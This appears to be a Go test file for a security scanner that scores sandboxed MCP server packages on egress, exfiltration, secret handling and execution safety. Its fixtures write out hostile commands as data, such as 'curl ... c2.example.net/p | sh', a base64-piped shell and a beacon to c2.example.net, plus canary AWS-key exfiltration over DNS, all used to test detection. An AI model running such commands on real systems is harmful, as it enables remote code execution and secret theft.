package rubric

import (
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/verifymcp/verifymcp/evidence"
)

// t0 is when the run phase's listing ended in the behaviour cases.
var t0 = time.Date(2026, 5, 1, 12, 0, 30, 0, time.UTC)

// cleanBehavior is behaviour evidence in which both phases were watched by
// every observer and nothing was seen.
func cleanBehavior() *evidence.Behavior {
	return &evidence.Behavior{
		Watches: []evidence.Watch{
			{Phase: "scripts", WatchedMS: 4200, Sink: "ok", Tracer: "ok", Files: "ok"},
			{Phase: "run", WatchedMS: 42000, IdleMS: 12000, Sink: "ok", Tracer: "ok", Files: "ok"},
		},
		Canaries: []evidence.Canary{
			{Kind: "aws_secret_access_key", Where: "env:AWS_SECRET_ACCESS_KEY"},
			{Kind: "github_token", Where: "file:~/.config/gh/hosts.yml"},
		},
		Network: []evidence.NetEvent{}, Files: []evidence.FileEvent{},
		Processes: []evidence.ProcessEvent{}, Exfiltration: []evidence.CanaryHit{},
	}
}

// watched returns a modifier that records the behaviour signal as
// observed, with clean behaviour evidence changed by fn.
func watched(fn func(*evidence.Behavior)) func(*evidence.Bundle) {
	return func(b *evidence.Bundle) {
		b.Signals[evidence.SignalBehavior] = sig("observed", "")
		b.Behavior = cleanBehavior()
		if fn != nil {
			fn(b.Behavior)
		}
	}
}

func dns(phase, pkg, name, typ string) evidence.NetEvent {
	return evidence.NetEvent{Phase: phase, Package: pkg, Time: t0.Add(-time.Second), Kind: "dns", DNSName: name, DNSType: typ, DstIP: "10.13.0.2", DstPort: 53}
}

func tcp(phase, pkg, host, ip string, port int) evidence.NetEvent {
	return evidence.NetEvent{Phase: phase, Package: pkg, Time: t0.Add(-time.Second), Kind: "tcp", DNSName: host, SNI: host, DstIP: ip, DstPort: port, Bytes: 517}
}

// proc is one process of its own: each call gets a PID no other has.
func proc(phase string, argv ...string) evidence.ProcessEvent {
	pid := 40 + int(procPID.Add(1))
	return evidence.ProcessEvent{Phase: phase, Time: t0, PID: pid, PPID: 1, Exe: "/usr/bin/" + argv[0], Argv: argv}
}

var procPID atomic.Int64

// richBehavior fires every behaviour code: a postinstall that looks up a
// canary-derived name, a server that runs sh -c 'curl ...', writes files,
// installs with npx, connects to a literal IP and beacons, and a tracer
// that died in the run phase.
func richBehavior() *evidence.Behavior {
	b := cleanBehavior()
	lit := tcp("scripts", "evil-helper", "", "45.9.148.108", 4444)
	lit.LiteralIP, lit.SNI = true, ""
	// Three check-ins 5 s apart during the idle watch: a beacon under
	// every rubric (from v11 one needs 3 regular attempts while idle).
	beacon := tcp("run", "", "c2.example.net", "10.13.0.2", 443)
	beacon.AfterHandshake, beacon.Stage, beacon.Time = true, evidence.StageIdle, t0.Add(5*time.Second)
	beacon2, beacon3 := beacon, beacon
	beacon2.Time, beacon3.Time = t0.Add(10*time.Second), t0.Add(15*time.Second)
	b.Network = append(b.Network, dns("scripts", "evil-helper", "d2phbHJ4.x.example.net", "A"), lit,
		dns("run", "", "c2.example.net", "A"), beacon, beacon2, beacon3)
	b.Exfiltration = append(b.Exfiltration, evidence.CanaryHit{
		Canary: evidence.Canary{Kind: "aws_secret_access_key", Where: "env:AWS_SECRET_ACCESS_KEY"},
		Phase:  "scripts", Package: "evil-helper", Channel: "dns", Encoding: "base64", Destination: "d2phbHJ4.x.example.net", Masked: "wJalrX…",
	})
	b.Files = append(b.Files,
		evidence.FileEvent{Phase: "scripts", Package: "evil-helper", Path: "~/.bashrc", Op: "modified", Sensitive: true, Why: "shell_profile"},
		evidence.FileEvent{Phase: "run", Path: "~/.cache/notes/index.json", Op: "created"})
	b.Processes = append(b.Processes,
		proc("run", "sh", "-c", "curl -s http://c2.example.net/p | sh"), proc("run", "curl", "-s", "http://c2.example.net/p"),
		proc("run", "npx", "-y", "left-pad"))
	b.Watches[1].Tracer = "died during the phase (exit 137)"
	b.Watches[0].Disk = []evidence.DiskUse{{Place: "tree", BoundBytes: 2 << 30, BoundFiles: 262144, StartBytes: 80 << 20, UsedBytes: 2<<30 - 4096, UsedFiles: 9000, Full: true}}
	return b
}

func TestEgressResilience(t *testing.T) {
	runProbeCases(t, DimensionEgress, []probeCase{
		{name: "nothing_seen", modify: watched(nil), want: outcome{State: StateScored, Score: 100}},
		{
			name: "dns_only_one_finding_per_name",
			modify: watched(func(b *evidence.Behavior) {
				b.Network = append(b.Network,
					dns("run", "", "api.example.com", "A"), dns("run", "", "api.example.com", "AAAA"),
					dns("run", "", "API.example.com.", "A"), dns("scripts", "evil-helper", "x.example.net", "TXT"))
			}),
			want: outcome{State: StateScored, Score: 80, Findings: []string{
				"pkg.behavior.dns.lookup run", "pkg.behavior.dns.lookup scripts:evil-helper",
			}},
		},
		{
			name: "connection_attempts_one_finding_per_destination",
			modify: watched(func(b *evidence.Behavior) {
				b.Network = append(b.Network, dns("run", "", "api.example.com", "A"),
					tcp("run", "", "api.example.com", "10.13.0.2", 443), tcp("run", "", "api.example.com", "10.13.0.2", 443),
					tcp("run", "", "api.example.com", "10.13.0.2", 80))
			}),
			want: outcome{State: StateScored, Score: 40, Findings: []string{
				"pkg.behavior.dns.lookup run", "pkg.behavior.egress.attempt run", "pkg.behavior.egress.attempt run",
			}},
		},
		{
			name: "literal_ip",
			modify: watched(func(b *evidence.Behavior) {
				e := tcp("scripts", "evil-helper", "", "45.9.148.108", 4444)
				e.LiteralIP, e.SNI = true, ""
				b.Network = append(b.Network, e)
			}),
			want: outcome{State: StateScored, Score: 0, Findings: []string{
				"pkg.behavior.egress.attempt scripts:evil-helper", "pkg.behavior.egress.literal_ip scripts:evil-helper",
			}},
		},
		{
			name: "sink_died_findings_still_fire",
			modify: watched(func(b *evidence.Behavior) {
				b.Watches[1].Sink = "died before the end of the scan"
				b.Network = append(b.Network, dns("run", "", "api.example.com", "A"))
			}),
			want: outcome{State: StateZeroPoint, Score: 0, Findings: []string{"pkg.behavior.dns.lookup run"}},
		},
		{
			name:   "tracer_died_is_not_egress_evidence",
			modify: watched(func(b *evidence.Behavior) { b.Watches[0].Tracer = "died during the phase (exit 137)" }),
			want:   outcome{State: StateScored, Score: 100},
		},
		{
			name:   "empty_observer_status_is_not_ok",
			modify: watched(func(b *evidence.Behavior) { b.Watches[0].Sink = "" }),
			want:   outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name: "observed_without_behaviour_evidence",
			modify: func(b *evidence.Bundle) {
				watched(nil)(b)
				b.Behavior = nil
			},
			want: outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name:   "no_phase_watched",
			modify: watched(func(b *evidence.Behavior) { b.Watches = nil }),
			want:   outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name: "install_failed_run_phase_never_watched",
			modify: func(b *evidence.Bundle) {
				watched(func(b *evidence.Behavior) { b.Watches = b.Watches[:1] })(b)
				b.Sandbox.Outcome = evidence.OutcomeInstallFailed
			},
			want: outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name:   "run_phase_not_watched_in_an_ok_run_scores_what_was_watched",
			modify: watched(func(b *evidence.Behavior) { b.Watches = b.Watches[:1] }),
			want:   outcome{State: StateScored, Score: 100},
		},
		{
			name:   "signal_not_recorded",
			modify: func(b *evidence.Bundle) { b.Behavior = cleanBehavior() },
			want:   outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name: "operator_opted_out",
			modify: func(b *evidence.Bundle) {
				b.Signals[evidence.SignalBehavior] = sig("not_assessed", "--no-behavior")
			},
			want: outcome{State: StateDropped, Score: 0},
		},
		{
			name: "not_assessed_after_failed_install",
			modify: func(b *evidence.Bundle) {
				b.Sandbox.Outcome = evidence.OutcomeInstallFailed
				b.Signals[evidence.SignalBehavior] = sig("not_assessed", "not reached")
			},
			want: outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name:   "signal_error",
			modify: func(b *evidence.Bundle) { b.Signals[evidence.SignalBehavior] = sig("error", "sink: image not found") },
			want:   outcome{State: StateZeroPoint, Score: 0},
		},
	})
}

func TestExfiltrationResilience(t *testing.T) {
	hit := evidence.CanaryHit{
		Canary: evidence.Canary{Kind: "aws_secret_access_key", Where: "env:AWS_SECRET_ACCESS_KEY"},
		Phase:  "scripts", Package: "evil-helper", Channel: "dns", Encoding: "dns_labels",
		Destination: "x.example.net", Masked: "wJalrX…",
	}
	runProbeCases(t, DimensionExfiltration, []probeCase{
		{name: "nothing_left", modify: watched(nil), want: outcome{State: StateScored, Score: 100}},
		{
			name:   "one_finding_per_hit",
			modify: watched(func(b *evidence.Behavior) { b.Exfiltration = append(b.Exfiltration, hit, hit) }),
			want: outcome{State: StateScored, Score: 0, Findings: []string{
				"pkg.behavior.canary_exfiltration scripts:evil-helper", "pkg.behavior.canary_exfiltration scripts:evil-helper",
			}},
		},
		{
			name: "sink_failed",
			modify: watched(func(b *evidence.Behavior) {
				b.Watches[0].Sink = "error: nft: permission denied"
				b.Exfiltration = append(b.Exfiltration, hit)
			}),
			want: outcome{State: StateZeroPoint, Score: 0, Findings: []string{"pkg.behavior.canary_exfiltration scripts:evil-helper"}},
		},
		{
			name:   "files_failed_is_not_exfiltration_evidence",
			modify: watched(func(b *evidence.Behavior) { b.Watches[1].Files = "error: copy home: EOF" }),
			want:   outcome{State: StateScored, Score: 100},
		},
		{
			name:   "opted_out",
			modify: func(b *evidence.Bundle) { b.Signals[evidence.SignalBehavior] = sig("not_assessed", "--no-behavior") },
			want:   outcome{State: StateDropped, Score: 0},
		},
	})
}

func TestSecretHandling(t *testing.T) {
	npmrc := evidence.FileEvent{Phase: "scripts", Package: "evil-helper", Path: "~/.npmrc", Op: "modified", Sensitive: true, Why: "npmrc"}
	cache := evidence.FileEvent{Phase: "run", Path: "~/.cache/notes/index.json", Op: "created"}
	runProbeCases(t, DimensionSecretHandling, []probeCase{
		{name: "nothing_changed", modify: watched(nil), want: outcome{State: StateScored, Score: 100}},
		{
			name:   "ordinary_write_is_not_a_secret",
			modify: watched(func(b *evidence.Behavior) { b.Files = append(b.Files, cache) }),
			want:   outcome{State: StateScored, Score: 100},
		},
		{
			name:   "sensitive_write",
			modify: watched(func(b *evidence.Behavior) { b.Files = append(b.Files, npmrc, cache) }),
			want:   outcome{State: StateScored, Score: 0, Findings: []string{"pkg.behavior.file.sensitive_write scripts:evil-helper"}},
		},
		{
			name:   "file_check_failed",
			modify: watched(func(b *evidence.Behavior) { b.Watches[1].Files = "not_run" }),
			want:   outcome{State: StateZeroPoint, Score: 0},
		},
		{
			name:   "sink_died_is_not_file_evidence",
			modify: watched(func(b *evidence.Behavior) { b.Watches[1].Sink = "died" }),
			want:   outcome{State: StateScored, Score: 100},
		},
	})
}

func TestExecutionSafety(t *testing.T) {
	write := func(path string) evidence.FileEvent {
		return evidence.FileEvent{Phase: "run", Path: path, Op: "created"}
	}
	runProbeCases(t, DimensionExecutionSafety, []probeCase{
		{name: "nothing_run", modify: watched(nil), want: outcome{State: StateScored, Score: 100}},
		{
			name: "expected_processes_are_not_findings",
			modify: watched(func(b *evidence.Behavior) {
				p := proc("run", "node", "/home/sandbox/node_modules/.bin/mcp-notes")
				p.Expected = true
				b.Processes = append(b.Processes, p)
			}),
			want: outcome{State: StateScored, Score: 100},
		},
		{
			name:   "one_spawn",
			modify: watched(func(b *evidence.Behavior) { b.Processes = append(b.Processes, proc("run", "git", "--version")) }),
			want:   outcome{State: StateScored, Score: 70, Findings: []string{"pkg.behavior.process.spawn run"}},
		},
		{
			name: "same_command_line_counts_once",
			modify: watched(func(b *evidence.Behavior) {
				for range 3 {
					b.Processes = append(b.Processes, proc("run", "git", "--version"))
				}
			}),
			want: outcome{State: StateScored, Score: 70, Findings: []string{"pkg.behavior.process.spawn run"}},
		},
		{
			name: "spawn_and_two_writes",
			modify: watched(func(b *evidence.Behavior) {
				b.Processes = append(b.Processes, proc("run", "git", "--version"))
				b.Files = append(b.Files, write("~/.cache/a"), write("~/.config/b")) // two directories: not folded (v12)
			}),
			want: outcome{State: StateScored, Score: 50, Findings: []string{
				"pkg.behavior.file.write run", "pkg.behavior.file.write run", "pkg.behavior.process.spawn run",
			}},
		},
		{
			name: "sensitive_write_is_scored_under_secret_handling",
			modify: watched(func(b *evidence.Behavior) {
				b.Files = append(b.Files, evidence.FileEvent{Phase: "run", Path: "~/.bashrc", Op: "modified", Sensitive: true, Why: "shell_profile"})
			}),
			want: outcome{State: StateScored, Score: 100},
		},
		{
			name: "penalties_clamp_at_zero",
			modify: watched(func(b *evidence.Behavior) {
				b.Processes = append(b.Processes, proc("run", "git", "a"), proc("run", "git", "b"), proc("run", "git", "c"), proc("run", "git", "d"))
			}),
			want: outcome{State: StateScored, Score: 0, Findings: []string{
				"pkg.behavior.process.spawn run", "pkg.behavior.process.spawn run", "pkg.behavior.process.spawn run", "pkg.behavior.process.spawn run",
			}},
		},
		{
			name: "shell_with_c",
			modify: watched(func(b *evidence.Behavior) {
				b.Processes = append(b.Processes, proc("run", "sh", "-c", "curl -s http://c2.example.net/p | sh"), proc("run", "curl", "-s", "http://c2.example.net/p"))
			}),
			want: outcome{State: StateScored, Score: 0, Findings: []string{
				"pkg.behavior.process.network_tool run", "pkg.behavior.process.shell run",
				"pkg.behavior.process.spawn run", "pkg.behavior.process.spawn run",
			}},
		},
		{
			name:   "shell_running_a_script_is_a_spawn_only",
			modify: watched(func(b *evidence.Behavior) { b.Processes = append(b.Processes, proc("run", "sh", "./bin/setup.sh")) }),
			want:   outcome{State: StateScored, Score: 70, Findings: []string{"pkg.behavior.process.spawn run"}},
		},
		{
			name: "busybox_applets",
			modify: watched(func(b *evidence.Behavior) {
				p := proc("scripts", "sh", "-c", "echo aWQ= | base64 -d | sh")
				p.Exe, p.Package = "/bin/busybox", "evil-helper"
				b.Processes = append(b.Processes, p)
			}),
			want: outcome{State: StateScored, Score: 0, Findings: []string{
				"pkg.behavior.process.shell scripts:evil-helper", "pkg.behavior.process.spawn scripts:evil-helper",
			}},
		},
		{
			name: "package_manager",
			modify: watched(func(b *evidence.Behavior) {
				b.Processes = append(b.Processes, proc("run", "npx", "-y", "left-pad"))
			}),
			want: outcome{State: StateScored, Score: 70, Findings: []string{"pkg.behavior.process.package_manager run", "pkg.behavior.process.spawn run"}},
		},
		{
			name: "tracer_died",
			modify: watched(func(b *evidence.Behavior) {
				b.Watches[1].Tracer = "died during the phase (exit 137): killed"
			}),
			want: outcome{State: StateZeroPoint, Score: 0, Findings: []string{"pkg.behavior.observer.incomplete run"}},
		},
		{
			name:   "file_check_failed",
			modify: watched(func(b *evidence.Behavior) { b.Watches[0].Files = "error: copy home: EOF" }),
			want:   outcome{State: StateZeroPoint, Score: 0, Findings: []string{"pkg.behavior.observer.incomplete scripts"}},
		},
		{
			name:   "sink_died_is_reported_but_scored_elsewhere",
			modify: watched(func(b *evidence.Behavior) { b.Watches[1].Sink = "died before the end of the scan" }),
			want:   outcome{State: StateScored, Score: 100, Findings: []string{"pkg.behavior.observer.incomplete run"}},
		},
		{
			name:   "opted_out",
			modify: func(b *evidence.Bundle) { b.Signals[evidence.SignalBehavior] = sig("not_assessed", "--no-behavior") },
			want:   outcome{State: StateDropped, Score: 0},
		},
	})
}

func TestBehaviorZeroPointReasons(t *testing.T) {
	tests := []struct {
		name   string
		modify func(*evidence.Bundle)
		dim    string
		want   string
	}{
		{
			name: "no_evidence",
			modify: func(b *evidence.Bundle) {
				watched(nil)(b)
				b.Behavior = nil
			},
			dim:  DimensionExfiltration,
			want: "behaviour signal is observed but the bundle holds no behaviour evidence",
		},
		{
			name:   "sink_died",
			modify: watched(func(b *evidence.Behavior) { b.Watches[1].Sink = "died before the end of the scan" }),
			dim:    DimensionEgress,
			want:   "the sink did not cover the run phase (died before the end of the scan), so that phase's network evidence is incomplete",
		},
		{
			name: "tracer_and_files",
			modify: watched(func(b *evidence.Behavior) {
				b.Watches[0].Tracer = "not_run"
				b.Watches[1].Files = "error: EOF"
			}),
			dim: DimensionExecutionSafety,
			want: "the tracer did not cover the scripts phase (not_run), so that phase's process evidence is incomplete; " +
				"the file check did not cover the run phase (error: EOF), so that phase's file evidence is incomplete",
		},
		{
			name: "run_not_watched_after_failure",
			modify: func(b *evidence.Bundle) {
				watched(func(b *evidence.Behavior) { b.Watches = b.Watches[:1] })(b)
				b.Sandbox.Outcome = evidence.OutcomeInstallTimeout
			},
			dim:  DimensionSecretHandling,
			want: "the run phase was not watched because the sandbox run ended with install_timeout; a failed phase earns no credit",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := okBundle()
			tt.modify(b)
			got := dim(Evaluate(b, Current()), tt.dim)
			if got.State != StateZeroPoint || got.Score != 0 || got.Reason != tt.want {
				t.Errorf("%s = %s %v %q, want zero_point 0 %q", tt.dim, got.State, got.Score, got.Reason, tt.want)
			}
		})
	}
}

// TestBehaviorFindingText pins the behaviour findings' text under rubric
// v10, whose beacon is any network activity after the listing; v11's
// beacon and stage wording: TestBeaconFindingTextV11.
func TestBehaviorFindingText(t *testing.T) {
	b := okBundle()
	watched(func(bh *evidence.Behavior) {
		bh.Network = append(bh.Network,
			evidence.NetEvent{Phase: "scripts", Package: "evil-helper", Time: t0, Kind: "dns", DNSName: "d2phbHJ4.x.example.net", DNSType: "A"},
			evidence.NetEvent{Phase: "run", Time: t0, Kind: "tcp", DstIP: "10.13.0.2", DstPort: 80, DNSName: "c2.example.net",
				HTTPMethod: "POST", HTTPTarget: "/beat", HTTPHost: "c2.example.net:80", Bytes: 120},
		)
		for i, ms := range []int{4900, 10000, 15100, 20000} {
			at := t0.Add(time.Duration(ms) * time.Millisecond)
			bh.Network = append(bh.Network,
				evidence.NetEvent{Phase: "run", Time: at, AfterHandshake: true, Kind: "dns", DNSName: "c2.example.net", DNSType: "A"},
				evidence.NetEvent{Phase: "run", Time: at.Add(3 * time.Millisecond), AfterHandshake: true, Kind: "tcp", DstIP: "10.13.0.2", DstPort: 80,
					DNSName: "c2.example.net", HTTPMethod: "POST", HTTPTarget: "/beat", HTTPHost: "c2.example.net", Bytes: int64(100 + i)})
		}
		bh.Exfiltration = append(bh.Exfiltration, evidence.CanaryHit{
			Canary: evidence.Canary{Kind: "aws_secret_access_key", Where: "env:AWS_SECRET_ACCESS_KEY"},
			Phase:  "scripts", Package: "evil-helper", Channel: "dns", Encoding: "base64",
			Destination: "d2phbHJ4.x.example.net", Masked: "wJalrX…",
		})
		bh.Processes = append(bh.Processes, evidence.ProcessEvent{
			Phase: "run", Time: t0, PID: 51, PPID: 40, Exe: "/bin/dash",
			Argv: []string{"sh", "-c", "curl -s -d @- http://c2.example.net/beat"},
		})
	})(b)
	res := Evaluate(b, mustLoad(t, "10"))
	got := map[string]Finding{}
	for _, f := range res.Findings {
		got[f.Code+" "+f.Subject+" "+f.Evidence] = f
	}
	want := []Finding{
		{
			Code: CodeBeacon, Kind: KindFinding, Severity: SeverityHigh, Dimension: DimensionEgress, Subject: "run",
			Message:  "the server made 4 network attempts in the run phase after the MCP listing ended, one every 5.1s (median; intervals 4.9s to 5.1s)",
			Evidence: "8 events to dns c2.example.net, tcp c2.example.net:80; first 2026-05-01T12:00:34.9Z, last 2026-05-01T12:00:50Z",
		},
		{
			Code: CodeDNSLookup, Kind: KindFinding, Severity: SeverityLow, Dimension: DimensionEgress, Subject: "scripts:evil-helper",
			Message:  `the lifecycle script of evil-helper looked up "d2phbHJ4.x.example.net" during the script step`,
			Evidence: "dns A d2phbHJ4.x.example.net",
		},
		{
			Code: CodeEgressAttempt, Kind: KindFinding, Severity: SeverityMedium, Dimension: DimensionEgress, Subject: "run",
			Message:  "the server attempted a tcp connection to c2.example.net:80 in the run phase",
			Evidence: "tcp c2.example.net:80; address 10.13.0.2; POST /beat (Host c2.example.net); POST /beat (Host c2.example.net:80); 5 attempts; 526 bytes sent",
		},
		{
			Code: CodeCanaryExfiltration, Kind: KindFinding, Severity: SeverityCritical, Dimension: DimensionExfiltration, Subject: "scripts:evil-helper",
			Message: "the aws_secret_access_key canary (planted at env:AWS_SECRET_ACCESS_KEY) left during the script step by dns, encoded as base64, " +
				"to d2phbHJ4.x.example.net, while the lifecycle script of evil-helper ran",
			Evidence: "wJalrX…",
		},
		{
			Code: CodeProcessShell, Kind: KindFinding, Severity: SeverityHigh, Dimension: DimensionExecutionSafety, Subject: "run",
			Message:  "the server ran a shell command with sh -c in the run phase",
			Evidence: "sh -c 'curl -s -d @- http://c2.example.net/beat'",
		},
	}
	for _, w := range want {
		g, ok := got[w.Code+" "+w.Subject+" "+w.Evidence]
		if !ok {
			var have []string
			for k := range got {
				if strings.HasPrefix(k, w.Code) {
					have = append(have, k)
				}
			}
			t.Errorf("no finding %s %s %q; have %q", w.Code, w.Subject, w.Evidence, have)
			continue
		}
		if d := diff(w, g); d != "" {
			t.Errorf("%s (-want +got):\n%s", w.Code, d)
		}
	}
	for _, f := range res.Findings {
		if f.Dimension == DimensionExfiltration && strings.Contains(f.Evidence+f.Message, "wJalrXUtnFEMI") {
			t.Errorf("exfiltration finding shows more than the masked value: %+v", f)
		}
	}
}

func TestHasCommandFlag(t *testing.T) {
	tests := []struct {
		args []string
		want bool
	}{
		{[]string{"-c", "id"}, true},
		{[]string{"-ec", "id"}, true},
		{[]string{"-lc", "id"}, true},
		{[]string{"--norc", "-c", "id"}, true},
		{[]string{"-o", "pipefail", "-c", "id"}, true},
		{[]string{"-e", "-x", "-c", "id"}, true},
		{[]string{"+o", "posix", "-c", "id"}, true},
		{[]string{"script.sh", "-c"}, false},
		{[]string{"-", "-c"}, false},
		{[]string{"--", "-c"}, false},
		{[]string{"-o", "c"}, false},
		{[]string{"--command"}, false},
		{nil, false},
	}
	for _, tt := range tests {
		if got := hasCommandFlag(tt.args); got != tt.want {
			t.Errorf("hasCommandFlag(%q) = %v, want %v", tt.args, got, tt.want)
		}
	}
}

func TestProgramOf(t *testing.T) {
	multi := []string{"busybox"}
	tests := []struct {
		name      string
		exe       string
		argv      []string
		wantNames []string
		wantArgs  []string
	}{
		{"plain", "/usr/bin/curl", []string{"curl", "-s", "x"}, []string{"curl"}, []string{"-s", "x"}},
		{"argv0_path", "/usr/bin/python3.11", []string{"/usr/bin/python3", "-c", "x"}, []string{"python3.11", "python3"}, []string{"-c", "x"}},
		{"busybox_symlink", "/bin/busybox", []string{"sh", "-c", "id"}, []string{"busybox", "sh"}, []string{"-c", "id"}},
		{"busybox_by_name", "/bin/busybox", []string{"busybox", "wget", "http://x"}, []string{"busybox", "wget"}, []string{"http://x"}},
		{"busybox_option", "/bin/busybox", []string{"busybox", "--list"}, []string{"busybox"}, []string{"--list"}},
		{"no_argv", "/usr/bin/nc", nil, []string{"nc"}, nil},
		{"no_exe", "", []string{"wget", "x"}, []string{"wget"}, []string{"x"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			names, args := programOf(evidence.ProcessEvent{Exe: tt.exe, Argv: tt.argv}, multi)
			if d := diff(tt.wantNames, names); d != "" {
				t.Errorf("names (-want +got):\n%s", d)
			}
			if d := diff(tt.wantArgs, args); d != "" {
				t.Errorf("args (-want +got):\n%s", d)
			}
		})
	}
}

func TestDestination(t *testing.T) {
	tests := []struct {
		e    evidence.NetEvent
		want string
	}{
		{evidence.NetEvent{DstIP: "10.13.0.2", DstPort: 443, SNI: "api.example.com"}, "api.example.com:443"},
		{evidence.NetEvent{DstIP: "10.13.0.2", DstPort: 80, HTTPHost: "c2.example.net:8080", DNSName: "other.example"}, "c2.example.net:80"},
		{evidence.NetEvent{DstIP: "10.13.0.2", DstPort: 80, HTTPHost: "[2001:db8::1]:80"}, "[2001:db8::1]:80"},
		{evidence.NetEvent{DstIP: "10.13.0.2", DstPort: 5432, DNSName: "db.example.com."}, "db.example.com:5432"},
		{evidence.NetEvent{DstIP: "45.9.148.108", DstPort: 4444, LiteralIP: true, SNI: "cover.example"}, "45.9.148.108:4444"},
		{evidence.NetEvent{DstIP: "2001:db8::7", DstPort: 443, LiteralIP: true}, "[2001:db8::7]:443"},
		{evidence.NetEvent{}, "unknown"},
	}
	for _, tt := range tests {
		if got := destination(tt.e); got != tt.want {
			t.Errorf("destination(%+v) = %q, want %q", tt.e, got, tt.want)
		}
	}
}

// TestCompositeV2 pins composites under rubric v2: the v1 dimensions weigh
// 60 and the behaviour dimensions 40.
func TestCompositeV2(t *testing.T) {
	tests := []struct {
		name   string
		modify func(*evidence.Bundle)
		want   *float64
	}{
		{name: "clean_behaviour_everything_100", modify: watched(nil), want: ptr(100.0)},
		{
			// Behaviour dropped: the composite is over the v1 dimensions,
			// whose proportions are those of v1, so it equals the v1 score.
			name: "behaviour_opted_out",
			modify: func(b *evidence.Bundle) {
				b.Signals[evidence.SignalBehavior] = sig("not_assessed", "--no-behavior")
				b.Session.HandshakePath = evidence.HandshakeInitializeFallback
			},
			// (9*80 + 51*100) / 60 = 97.
			want: ptr(97.0),
		},
		{
			name: "behaviour_evidence_missing_is_zero_points",
			modify: func(b *evidence.Bundle) {
				watched(nil)(b)
				b.Behavior = nil
			},
			// (60*100 + 40*0) / 100.
			want: ptr(60.0),
		},
		{
			name: "dns_only_and_a_spawn",
			modify: watched(func(b *evidence.Behavior) {
				b.Network = append(b.Network, dns("run", "", "api.example.com", "A"))
				b.Processes = append(b.Processes, proc("run", "git", "--version"))
			}),
			// (6000 + 10*80 + 1500 + 800 + 7*70) / 100 = 95.9.
			want: ptr(95.9),
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := okBundle()
			tt.modify(b)
			res := Evaluate(b, mustLoad(t, "2"))
			if d := diff(tt.want, res.Score); d != "" {
				t.Errorf("Score (-want +got):\n%s\ndimensions: %+v", d, res.Dimensions)
			}
		})
	}
}

// TestEverythingV2 scores the realistic fixture, whose behaviour was not
// assessed, under v2: the behaviour dimensions are dropped and the rest
// score exactly as under v1.
func TestEverythingV2(t *testing.T) {
	b := loadBundle(t, "everything.bundle.json")
	v1, v2 := Evaluate(b, mustLoad(t, "1")), Evaluate(b, mustLoad(t, "2"))
	if d := diff(v1.Findings, v2.Findings); d != "" {
		t.Errorf("findings differ between v1 and v2 (-v1 +v2):\n%s", d)
	}
	if d := diff(v1.Score, v2.Score); d != "" {
		t.Errorf("score differs between v1 and v2 (-v1 +v2):\n%s", d)
	}
	for _, d2 := range v2.Dimensions {
		if d1 := dim(v1, d2.ID); d1.ID != "" {
			if d1.State != d2.State || d1.Score != d2.Score || d1.Reason != d2.Reason {
				t.Errorf("%s: v1 %+v, v2 %+v", d2.ID, d1, d2)
			}
			continue
		}
		if d2.State != StateDropped || d2.Reason != "signal sandbox.behavior is not_assessed: behaviour capture is not enabled" {
			t.Errorf("%s = %+v, want dropped because behaviour was not assessed", d2.ID, d2)
		}
	}
}
